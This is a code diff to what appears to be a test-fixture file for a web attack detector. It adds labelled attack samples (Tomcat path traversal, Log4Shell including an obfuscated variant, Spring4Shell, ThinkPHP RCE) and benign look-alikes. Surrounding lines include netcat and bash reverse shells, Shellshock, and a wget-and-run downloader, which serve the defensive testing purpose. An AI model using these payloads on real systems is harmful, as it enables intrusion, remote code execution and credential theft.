@@ -78,6 +78,7 @@ export const attacks: Sample[] = [
   p('/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'encoded dots', 'path-traversal'),
   p('/%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'double-encoded %252e%252e%252f', 'path-traversal'),
   p('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 'CVE-2021-41773 Apache 2.4.49', 'path-traversal'),
+  p('/app/..;/manager/html', 'Tomcat path parameter ..;/ to reach the manager', 'path-traversal'),
   p('/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'overlong UTF-8 %c0%ae', 'path-traversal'),
   q('file=....//....//....//etc/passwd', 'filter bypass ....//', 'path-traversal'),
   q('page=..%5c..%5c..%5cwindows%5cwin.ini', 'Windows ..\\ encoded', 'path-traversal'),
@@ -111,6 +112,10 @@ export const attacks: Sample[] = [
   q('q=x;nc%20-e%20/bin/sh%2010.0.0.1%204444', 'netcat reverse shell nc -e', 'command-injection'),
   q('x=;cat${IFS}/etc/passwd', '${IFS} for spaces', 'command-injection'),
   { category: 'command-injection', note: 'PATT bash reverse shell in a JSON body', record: request({ format: 'json', method: 'POST', path: '/api/run', body: '{"cmd":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}' }) },
+  { category: 'command-injection', note: 'Log4Shell in the user agent (CVE-2021-44228)', record: request({ userAgent: '${jndi:ldap://198.51.100.23:1389/Exploit}' }) },
+  q('x=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3A%24%7B%3A%3A-l%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-a%7D%24%7B%3A%3A-p%7D%3A%2F%2F198.51.100.23%2Fa%7D', 'Log4Shell with ${::-j} obfuscation, encoded', 'command-injection'),
+  { category: 'command-injection', note: 'Spring4Shell class loader (CVE-2022-22965)', record: request({ method: 'POST', path: '/app', body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di' }) },
+  q('s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP', 'ThinkPHP 5 invokefunction PoC', 'command-injection'),
   { category: 'command-injection', note: 'Shellshock in the user agent', record: request({ path: '/cgi-bin/status', userAgent: '() { :; }; /bin/bash -c "cat /etc/passwd"' }) },
   { category: 'command-injection', note: 'downloader in a form body', record: request({ method: 'POST', path: '/ping', body: 'addr=1.1.1.1;wget+http://203.0.113.5/x.sh+-O+/tmp/x;sh+/tmp/x' }) },
 
@@ -220,6 +225,8 @@ export const benign: { note: string; record: LogRecord }[] = [
   { note: 'template render message', record: logMessage('rendered layout.html with 3 <script> tags', { format: 'json' }) },
   { note: 'wallet address', record: request({ path: '/api/balance', query: 'wallet=0x742d35Cc6634C0532925a3b844Bc454e4438f44e' }) },
   { note: 'hex colour', record: request({ path: '/theme', query: 'color=0xff00ff&char=abc' }) },
+  { note: 'a template placeholder', record: request({ path: '/api/templates', query: 'text=Hello+${name}' }) },
+  { note: 'system status page', record: request({ path: '/system/status', query: 'view=system' }) },
   { note: 'matrix parameter', record: request({ path: '/shop;jsessionid=1A2B3C4D' }) },
   { note: 'well-known path', record: request({ path: '/.well-known/security.txt' }) },
 ];
